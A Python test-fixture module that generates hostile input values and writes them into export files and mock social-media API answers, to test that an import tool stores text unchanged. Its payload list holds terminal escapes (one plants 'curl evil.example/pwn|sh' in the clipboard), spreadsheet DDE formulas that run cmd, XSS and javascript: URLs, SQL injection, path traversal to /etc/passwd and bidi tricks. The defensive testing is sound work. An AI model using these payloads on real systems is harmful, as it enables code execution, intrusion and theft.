"""Hostile values, and the files and API answers that carry them in.

A `Payload` is one thing a stranger writes (a terminal escape, a formula, a tag, bytes
that are no UTF-8) and the fields it goes into (text, author, URL, title, id, date). A
`Case` is one payload in one field; every way in (`WAYS`) writes all its cases into one
export file or one answer of an API, each case one item with a marker of its own
("Acme q07a012 café — “quotes” 😀 einde.") that must come out exactly as written.

Values are Python text. A lone surrogate stays a surrogate until a format writes it (JSON
`\\ud800`, XML `&#xD800;`, CSV the bytes ED A0 80); bytes no text holds are written
`@@RAW:ff@@` and become those raw bytes in every format.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime
from xml.sax.saxutils import escape as xml_escape

CREATED_AT = datetime(2026, 11, 23, 6, 0, tzinfo=UTC)
GOOD = "café — “quotes” 😀 einde."
"""The clean part of every marker: any change to it is a corrupted mention."""
FLAG = "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f"
FAMILY = "👨\u200d👩\u200d👧\u200d👦"
CANARY_ENV = "WEBCARE_SUITE_CANARY"
CANARY_VALUE = "canary-value-7f3a9"
"""The value of an environment variable a text names as `${...}`: never expanded."""

TEXT, AUTHOR, URL, TITLE, ID, DATE = "text", "author", "url", "title", "id", "date"


@dataclass(frozen=True)
class Payload:
    name: str
    value: str
    fields: tuple[str, ...]
    keep: tuple[str, ...] = ()
    """Substrings of the value that must reach the stored text unchanged."""
    heavy: bool = False
    """A megabyte or more: only sent through some ways in (analysis takes seconds)."""


def _p(name: str, value: str, fields: str, *, keep: Sequence[str] = (), heavy: bool = False) -> Payload:
    codes = {"t": TEXT, "u": AUTHOR, "l": URL, "h": TITLE, "i": ID, "d": DATE}
    return Payload(name, value, tuple(codes[c] for c in fields), tuple(keep), heavy)


HOSTILE_MIX = "x\x1b[31m<b class=pwn>=1+1\u202e\u200b[bold]y[/bold] café 😀 \x9b1m\U000e0041 "
PAYLOADS: list[Payload] = [
    # Terminal escapes: CSI, OSC 8 links, OSC 52 clipboard, titles, DCS, 8-bit C1 forms.
    _p("csi colour", "\x1b[31;1mRED\x1b[0m", "tuhi"),
    _p("csi clear screen", "\x1b[2J\x1b[3J\x1b[H", "tu"),
    _p("csi hide cursor, conceal", "\x1b[?25l\x1b[8mhidden", "t"),
    _p("csi status report", "\x1b[6n\x1b[21t\x1b[>c", "t"),
    _p("osc 8 link (BEL)", "\x1b]8;;https://evil.example/pwn\x07click me\x1b]8;;\x07", "tulh"),
    _p("osc 8 link (ST)", "\x1b]8;;https://evil.example/pwn\x1b\\click\x1b]8;;\x1b\\", "tu"),
    _p("osc 52 clipboard", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvcHdufHNo\x07", "tuh"),
    _p("osc 0 window title", "\x1b]0;pwned-title\x07", "tu"),
    _p("osc unterminated", "\x1b]8;;https://evil.example/pwn", "t"),
    _p("dcs request", "\x1bP+q544e\x1b\\", "t"),
    _p("c1 csi", "\x9b31mRED\x9b0m", "tu"),
    _p("c1 osc", "\x9d8;;http://evil.example/pwn\x9c", "t"),
    _p("esc reset, charset", "\x1bc\x1b(0lqqk", "t"),
    _p("backspace overwrite", "Acme is great\x08\x08\x08\x08\x08awful", "t"),
    _p("carriage return overwrite", "benign text\rEVIL overwrite", "tu"),
    _p("bell, vt, ff, sub, del", "\x07\x0b\x0c\x1a\x7fx", "tu"),
    _p("nul", "a\x00b\x00c", "tuli"),
    _p("every c1 control", "".join(map(chr, range(0x80, 0xA0))) + "x", "tu"),
    _p("next line (NEL)", "line\x85next", "t"),
    # Bidi controls and isolates.
    _p("bidi override", "\u202eexe.txt", "tulh"),
    _p("trojan source", "access\u202e\u2066level\u2069\u2066 = admin", "t"),
    _p("bidi isolates", "\u2066\u2067\u2068isolated\u2069", "tu"),
    _p("bidi marks", "\u200e\u200f\u061cmarked", "tu"),
    _p("bidi embeddings", "\u202a\u202b\u202cx\u202d", "t"),
    # Zero-width, invisible and tag characters.
    _p("zero-width space", "ac\u200bme zero\u200bwidth", "tu"),
    _p("word joiner, bom", "\u2060\ufeffx\ufeff", "tui"),
    _p("soft hyphen", "ac\u00adme", "t"),
    _p("stray joiners", "a\u200db\u200cc", "tu"),
    _p("invisible operators", "\u2061\u2062\u2063\u2064\u180ex", "t"),
    _p("tag characters", "\U000e0001\U000e0041\U000e0042hidden\U000e007f", "tuh"),
    _p("a flag made of tags", f"go {FLAG}!", "t", keep=(FLAG,)),
    _p("line and paragraph separators", "one\u2028two\u2029three", "tu"),
    _p("interlinear annotation", "\ufff9a\ufffab\ufffb", "t"),
    # Rich markup and emoji codes: shown as written, never interpreted.
    _p("rich style", "[bold red]LIVE{key}[/bold red]", "tuh"),
    _p("rich link", "[link=https://evil.example/pwn]LINK{key}[/link]", "tu"),
    _p("rich unbalanced", "[/bold] [/] [/link]", "tu"),
    _p("rich emoji codes", ":vampire: :warning:", "t"),
    _p("rich escaped brackets", "\\[bold]x\\[/bold] [on red]x", "t"),
    # Spreadsheet formulas (CSV/TSV injection).
    _p("formula =", "=1+1", "tuh"),
    _p("formula dde cmd", "=cmd|' /C calc'!A0", "tu"),
    _p("formula +", "+cmd|' /C calc'!A0", "tu"),
    _p("formula -", "-2+3+cmd|' /C calc'!A0", "t"),
    _p("formula @", "@SUM(1+1)*cmd|' /C calc'!A0", "tu"),
    _p("formula hyperlink", '=HYPERLINK("https://evil.example/pwn","click")', "tuh"),
    _p("formula after a tab", "\t=1+1", "tu"),
    _p("formula after a cr", "\r=1+1", "tu"),
    _p("formula DDE()", '=DDE("cmd";"/C calc";"!A0")', "t"),
    _p("formula full-width =", "＝1+1", "t"),
    _p("formula after spaces", "   =1+1", "t"),
    # HTML and JavaScript.
    _p("script tag", "<script>alert('pwn')</script>", "tuh"),
    _p("img onerror", '<img src=x onerror="alert(\'pwn\')">', "tuh"),
    _p("javascript: link", '<a href="javascript:alert(\'pwn\')">click</a>', "tu"),
    _p("svg onload", '"><svg onload=alert("pwn")>', "tu"),
    _p("table breakout", "</td></tr></table><h1 class=pwn>x</h1>", "tu"),
    _p("unclosed comment", "<!-- pwn", "tu"),
    _p("escaped tags", "&lt;script&gt;alert('pwn')&lt;/script&gt;", "tu"),
    _p("style, meta refresh", '<style>*{display:none}</style><meta http-equiv="refresh" content="0;url=https://evil.example/pwn">', "t"),
    _p("attribute breakout", "\" onmouseover=\"alert('pwn')\" x=\"", "tu"),
    # Markdown.
    _p("markdown javascript link", "[click](javascript:alert('pwn'))", "tu"),
    _p("markdown image", "![pwn](https://evil.example/pwn.png)", "tu"),
    _p("markdown autolink", "<javascript:alert('pwn')>", "tu"),
    _p("markdown table breakout", "| pwn | cell |\n|---|---|", "tu"),
    _p("markdown heading, rule, fence", "# pwn heading\n---\n```", "t"),
    _p("markdown reference link", "[x]: javascript:alert('pwn')\n[x]", "t"),
    _p("inline html", "<b class=pwn>bold</b>", "tu"),
    # Chat markup (what a notify target would interpret).
    _p("slack broadcast", "<!channel> <!here> @here @channel @everyone", "tu"),
    _p("slack link", "<https://evil.example/pwn|click here>", "t"),
    _p("slack mentions", "<@U024BE7LH> <#C024BE7LH>", "t"),
    # URLs that must never become links.
    _p("url javascript:", "javascript:alert('pwn')//{key}", "l"),
    _p("url JaVaScRiPt:", "JaVaScRiPt:alert('pwn')//{key}", "l"),
    _p("url java\\nscript:", " \tjava\nscript:alert('pwn')//{key}", "l"),
    _p("url data:", "data:text/html;base64,PHNjcmlwdD5wd248L3NjcmlwdD4=#{key}", "l"),
    _p("url file:", "file:///etc/passwd#{key}", "l"),
    _p("url quote breakout", "https://shop.example/{key}\"onmouseover=\"alert('pwn')", "l"),
    _p("url tag breakout", "https://shop.example/{key}><script>pwn</script>", "l"),
    _p("url markdown breakout", "https://shop.example/{key}) [click](javascript:alert('pwn')", "l"),
    _p("url with escapes", "https://shop.example/\x1b[31m{key}\x1b]8;;https://evil.example/pwn\x07", "l"),
    _p("url userinfo", "https://shop.example@evil.example/{key}", "l"),
    _p("url bidi", "https://shop.example/\u202e{key}gpj.exe", "l"),
    _p("url homograph", "https://аcme.example/{key}", "l"),
    # Text that is no valid Unicode, or barely.
    _p("lone high surrogate", "bad \ud800 high", "tulhi"),
    _p("lone low surrogate", "bad \udfff low", "tu"),
    _p("reversed surrogate pair", "\udc00\ud800", "t"),
    _p("utf-8 encoded surrogate", "@@RAW:eda080@@", "tu"),
    _p("invalid utf-8 bytes", "caf@@RAW:e9@@ @@RAW:ff@@", "tuh"),
    _p("truncated utf-8", "emoji @@RAW:f09f98@@ cut", "tu"),
    _p("overlong utf-8", "@@RAW:c0af@@ @@RAW:e080af@@", "t"),
    _p("noncharacters", "\ufffe\uffff\U0010ffff\U000fffff", "tu"),
    _p("private use", "\ue000\uf8ff", "t"),
    _p("full-width and ligatures", "ｆｕｌｌｗｉｄｔｈ ＡＣＭＥ ﬁ", "tu"),
    _p("zalgo", "z" + "\u0336\u0334" * 300, "tu"),
    _p("emoji sequences", f"{FAMILY} 🏳️\u200d🌈", "t", keep=(FAMILY,)),
    # Strings that mean something to a program.
    _p("format strings", "%s%s%n%x {0} {__class__} $(id) `id`", "tu"),
    _p("sql", "'; DROP TABLE mentions;--", "tui"),
    _p("environment reference", "${" + CANARY_ENV + "} $" + CANARY_ENV, "tu"),
    _p("path traversal", "../../../../etc/passwd", "ui"),
    # Size.
    _p("1 MB hostile mix", (HOSTILE_MIX * (1_000_000 // len(HOSTILE_MIX))), "t", heavy=True),
    _p("1 MB one word", "A" * 1_000_000, "t", heavy=True),
    _p("10,000 line breaks", "\n" * 10_000 + "x", "t"),
    _p("100 KB author", "a" * 100_000, "u"),
    _p("100 KB url", "https://shop.example/{key}/" + "a" * 100_000, "l"),
    # Dates a stranger writes (the row may be skipped, never a crash).
    _p("date with escapes", "2026-11-23T06:00:00Z\x1b]52;c;cHdu\x07", "d"),
    _p("date in year 1", "0001-01-01T00:00:00+01:00", "d"),
    _p("date in year 9999", "9999-12-31T23:59:59-01:00", "d"),
    _p("date 1e20", "1e20", "d"),
]  # fmt: skip


@dataclass(frozen=True)
class Case:
    number: int
    payload: Payload
    field: str

    @property
    def name(self) -> str:
        return f"{self.payload.name} in {self.field}"


def all_cases() -> list[Case]:
    cases: list[Case] = []
    for payload in PAYLOADS:
        for field_ in payload.fields:
            cases.append(Case(len(cases), payload, field_))
    return cases


# ---------------------------------------------------------------- one item per case


@dataclass(frozen=True)
class Item:
    """One case as a way in writes it: its values (hostile in one field) and its marker."""

    case: Case
    key: str
    fields: dict[str, str]
    created: datetime
    """The item's time (the date field may hold something else)."""

    @property
    def marker(self) -> str:
        return f"Acme {self.key} {GOOD}"


def item_for(case: Case, way_code: str) -> Item:
    key = f"q{way_code}{case.number:03d}"
    value = case.payload.value.replace("{key}", key)
    fields = {
        ID: f"{key}",
        AUTHOR: f"klant_{key}",
        URL: f"https://shop.example/{way_code}/{key}",
        TITLE: f"Titel {key}",
        TEXT: f"Acme {key} {GOOD}",
        DATE: "",
    }
    if case.field == TEXT:
        fields[TEXT] = f"{value}\n{fields[TEXT]}"
    elif case.field == ID:
        fields[ID] = f"{key}-{value}"  # unique however it is cleaned
    elif case.field != DATE:
        fields[case.field] = value
    else:
        fields[DATE] = value
    return Item(case, key, fields, CREATED_AT)


# ---------------------------------------------------------------- writing the formats

_SURROGATE = re.compile("[\ud800-\udfff]")
_RAW = re.compile(rb"@@RAW:([0-9a-f]+)@@")
_SUR = re.compile(rb"@@SUR:([0-9a-f]{4})@@")


def tokens(text: str) -> str:
    """Surrogates as tokens a serialiser passes through (they cannot be encoded)."""
    return _SURROGATE.sub(lambda m: f"@@SUR:{ord(m.group()):04x}@@", text)


def finish(data: bytes, surrogate: Callable[[int], bytes]) -> bytes:
    data = _SUR.sub(lambda m: surrogate(int(m.group(1), 16)), data)
    return _RAW.sub(lambda m: bytes.fromhex(m.group(1).decode()), data)


def json_surrogate(code: int) -> bytes:
    return b"\\u%04x" % code


def xml_surrogate(code: int) -> bytes:
    return b"&#x%04X;" % code


def raw_surrogate(code: int) -> bytes:
    return chr(code).encode("utf-8", "surrogatepass")


def _json(document: object) -> bytes:
    return finish(json.dumps(_tokenised(document), ensure_ascii=False).encode(), json_surrogate)


def _tokenised(value: object) -> object:
    if isinstance(value, str):
        return tokens(value)
    if isinstance(value, list):
        return [_tokenised(v) for v in value]
    if isinstance(value, dict):
        return {tokens(k): _tokenised(v) for k, v in value.items()}
    return value


def _date(item: Item, style: str) -> object:
    """The item's time as the format writes it, or the hostile date itself."""
    if item.fields[DATE]:
        hostile = item.fields[DATE]
        if style in ("epoch", "epoch_ms"):
            numbers = {"1e20": 1e20, "0001-01-01T00:00:00+01:00": -62135600400,
                       "9999-12-31T23:59:59-01:00": 253402304399}  # fmt: skip
            return numbers.get(hostile, hostile)
        return hostile
    at = item.created
    return {
        "iso": at.strftime("%Y-%m-%dT%H:%M:%SZ"),
        "rfc822": at.strftime("%a, %d %b %Y %H:%M:%S +0000"),
        "twitter": at.strftime("%a %b %d %H:%M:%S +0000 %Y"),
        "space": at.strftime("%Y-%m-%d %H:%M:%S"),
        "epoch": int(at.timestamp()),
        "epoch_ms": int(at.timestamp() * 1000),
    }[style]


def _csv(header: list[str], rows: list[list[object]], delimiter: str = ",", encoding: str = "utf-8") -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows([[tokens(str(v)) for v in row] for row in rows])
    text = buffer.getvalue()
    if encoding == "utf-16":
        # Tokens go through as UTF-16 text; raw bytes and surrogates become their UTF-16 form.
        text = _SUR_TEXT.sub(lambda m: "\ufffd", text)
        text = _RAW_TEXT.sub("\ufffd", text)
        return "\ufeff".encode("utf-16-le") + text.encode("utf-16-le")
    return finish(text.encode(), raw_surrogate)


_SUR_TEXT = re.compile("@@SUR:[0-9a-f]{4}@@")
_RAW_TEXT = re.compile("@@RAW:[0-9a-f]+@@")


def _record(item: Item) -> dict[str, object]:
    f = item.fields
    return {"id": f[ID], "author": f[AUTHOR], "url": f[URL], "title": f[TITLE],
            "text": f[TEXT], "created_at": _date(item, "iso")}  # fmt: skip


def write_jsonl(items: list[Item]) -> bytes:
    return b"".join(_json(_record(item)) + b"\n" for item in items)


def write_json(items: list[Item]) -> bytes:
    return _json([_record(item) for item in items])


def write_csv(items: list[Item], delimiter: str = ",") -> bytes:
    header = ["id", "author", "url", "title", "text", "created_at"]
    rows = [[r[k] for k in header] for r in map(_record, items)]
    return _csv(header, rows, delimiter)


def write_tsv(items: list[Item]) -> bytes:
    return write_csv(items, "\t")


def write_twcs(items: list[Item]) -> bytes:
    header = ["tweet_id", "author_id", "inbound", "created_at", "text", "response_tweet_id",
              "in_response_to_tweet_id"]  # fmt: skip
    rows = [[i.fields[ID], i.fields[AUTHOR], "True", _date(i, "twitter"), i.fields[TEXT], "", ""]
            for i in items]  # fmt: skip
    return _csv(header, rows)


def write_googleplay(items: list[Item]) -> bytes:
    header = ["Package Name", "App Version Code", "App Version Name", "Reviewer Language",
              "Device", "Review Submit Date and Time", "Review Submit Millis Since Epoch",
              "Review Last Update Date and Time", "Review Last Update Millis Since Epoch",
              "Star Rating", "Review Title", "Review Text", "Developer Reply Date and Time",
              "Developer Reply Millis Since Epoch", "Developer Reply Text", "Review Link"]  # fmt: skip
    rows = []
    for i in items:
        link = i.fields[URL]
        if i.case.field != URL:
            link = f"https://play.google.com/apps/publish?reviewId=gp%3A{i.key}"
        millis = _date(i, "epoch_ms")  # the id when the link has none: one per review
        millis = millis + i.case.number if isinstance(millis, int) else millis
        rows.append(["nl.acme.app", "1", "1.0", "nl", "phone", _date(i, "iso"), millis,
                     _date(i, "iso"), millis, "3", i.fields[TITLE], i.fields[TEXT],
                     "", "", "", link])  # fmt: skip
    return _csv(header, rows, encoding="utf-16")


def write_trustpilot_csv(items: list[Item]) -> bytes:
    header = ["Review Id", "Review Created (UTC)", "Review Username", "Review Title",
              "Review Content", "Review Stars"]  # fmt: skip
    rows = [[i.fields[ID], _date(i, "space"), i.fields[AUTHOR], i.fields[TITLE], i.fields[TEXT], "3"]
            for i in items]  # fmt: skip
    return _csv(header, rows)


def _x(text: str) -> str:
    return xml_escape(tokens(text), {'"': "&quot;"})


def write_rss(items: list[Item]) -> bytes:
    parts = ['<?xml version="1.0" encoding="UTF-8"?>',
             '<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel>',
             "<title>Acme nieuws</title><link>https://news.example/</link>"]  # fmt: skip
    for i in items:
        f = i.fields
        parts.append(
            f"<item><title>{_x(f[TITLE])}</title><link>{_x(f[URL])}</link>"
            f"<guid isPermaLink=\"false\">{_x(f[ID])}</guid><dc:creator>{_x(f[AUTHOR])}</dc:creator>"
            f"<pubDate>{_x(str(_date(i, 'rfc822')))}</pubDate>"
            f"<description>{_x(f[TEXT])}</description></item>"
        )
    parts.append("</channel></rss>")
    return finish("\n".join(parts).encode(), xml_surrogate)


def write_atom(items: list[Item]) -> bytes:
    parts = ['<?xml version="1.0" encoding="utf-8"?>',
             '<feed xmlns="http://www.w3.org/2005/Atom"><title>Acme</title>',
             "<id>urn:acme</id><updated>2026-11-23T06:00:00Z</updated>"]  # fmt: skip
    for i in items:
        f = i.fields
        parts.append(
            f"<entry><title type=\"text\">{_x(f[TITLE])}</title>"
            f"<link href=\"{_x(f[URL])}\"/><id>{_x(f[ID])}</id>"
            f"<author><name>{_x(f[AUTHOR])}</name></author>"
            f"<updated>{_x(str(_date(i, 'iso')))}</updated>"
            f"<content type=\"text\">{_x(f[TEXT])}</content></entry>"
        )
    parts.append("</feed>")
    return finish("\n".join(parts).encode(), xml_surrogate)


def write_mastodon(items: list[Item]) -> bytes:
    statuses = []
    for n, i in enumerate(items):
        f = i.fields
        statuses.append({
            "id": f[ID], "created_at": _date(i, "iso"), "in_reply_to_id": None,
            "spoiler_text": "", "visibility": "public", "url": f[URL], "uri": f[URL],
            "content": "<p>" + f[TEXT].replace("<", "&lt;").replace(">", "&gt;") + "</p>",
            "account": {"id": str(n), "acct": f[AUTHOR], "followers_count": 10},
            "reblog": None,
        })  # fmt: skip
    return _json(statuses)


def write_reddit(items: list[Item]) -> bytes:
    children = []
    for i in items:
        f = i.fields
        children.append({"kind": "t3", "data": {
            "name": f"t3_{f[ID]}", "id": f[ID], "title": f[TITLE], "selftext": f[TEXT],
            "author": f[AUTHOR], "permalink": f[URL], "created_utc": _date(i, "epoch"),
            "subreddit": "thenetherlands"}})  # fmt: skip
    return _json({"kind": "Listing", "data": {"after": None, "children": children}})


def write_hackernews(items: list[Item]) -> bytes:
    hits = []
    for i in items:
        f = i.fields
        hits.append({"objectID": f[ID], "title": f[TITLE], "story_text": f[TEXT].replace("<", "&lt;"),
                     "url": f[URL], "author": f[AUTHOR], "created_at_i": _date(i, "epoch"),
                     "_tags": ["story"]})  # fmt: skip
    return _json({"hits": hits, "page": 0, "nbPages": 1})


def write_x_api(items: list[Item]) -> bytes:
    tweets, users = [], []
    for n, i in enumerate(items):
        f = i.fields
        tweets.append({"id": f[ID], "text": f[TEXT], "author_id": str(1000 + n),
                       "created_at": _date(i, "iso")})  # fmt: skip
        users.append({"id": str(1000 + n), "username": f[AUTHOR], "public_metrics": {"followers_count": 5}})
    return _json({"data": tweets, "includes": {"users": users}, "meta": {"result_count": len(tweets)}})


@dataclass(frozen=True)
class Way:
    """One way in: a kind, how its items are written, and whether it is a file to import
    or an answer to poll over HTTP."""

    name: str
    code: str
    kind: str
    write: Callable[[list[Item]], bytes]
    fields: frozenset[str]
    over_http: bool
    suffix: str = ""
    ctype: str = "application/json"
    heavy: bool = False
    """Also carries the megabyte payloads."""
    options: dict[str, object] = field(default_factory=dict)


ALL = frozenset((TEXT, AUTHOR, URL, TITLE, ID, DATE))
WAYS: list[Way] = [
    Way("jsonl file", "a", "jsonl", write_jsonl, ALL, False, ".jsonl", heavy=True),
    Way("json file", "b", "json", write_json, ALL, False, ".json"),
    Way("csv file", "c", "csv", write_csv, ALL, False, ".csv", heavy=True),
    Way("csv file (tabs)", "d", "csv", write_tsv, ALL, False, ".tsv"),
    Way("twcs csv file", "e", "twcs", write_twcs, frozenset((TEXT, AUTHOR, ID, DATE)), False, ".csv"),
    Way("google play csv (utf-16)", "f", "googleplay-csv", write_googleplay, frozenset((TEXT, TITLE, URL, DATE)), False, ".csv"),
    Way("trustpilot csv file", "g", "trustpilot", write_trustpilot_csv, frozenset((TEXT, AUTHOR, TITLE, ID, DATE)), False, ".csv"),
    Way("rss over http", "h", "rss", write_rss, ALL, True, ctype="application/rss+xml; charset=utf-8", heavy=True),
    Way("atom over http", "i", "rss", write_atom, ALL, True, ctype="application/atom+xml"),
    Way("json over http", "j", "json", write_json, ALL, True, heavy=True),
    Way("mastodon api", "k", "mastodon", write_mastodon, frozenset((TEXT, AUTHOR, URL, ID, DATE)), True),
    Way("reddit api", "l", "reddit", write_reddit, ALL, True),
    Way("hacker news api", "m", "hackernews", write_hackernews, frozenset((TEXT, AUTHOR, TITLE, ID, DATE)), True),
    Way("x api", "n", "x-api", write_x_api, frozenset((TEXT, AUTHOR, ID, DATE)), True, options={"token": "${WEBCARE_SUITE_X_TOKEN}"}),
]  # fmt: skip
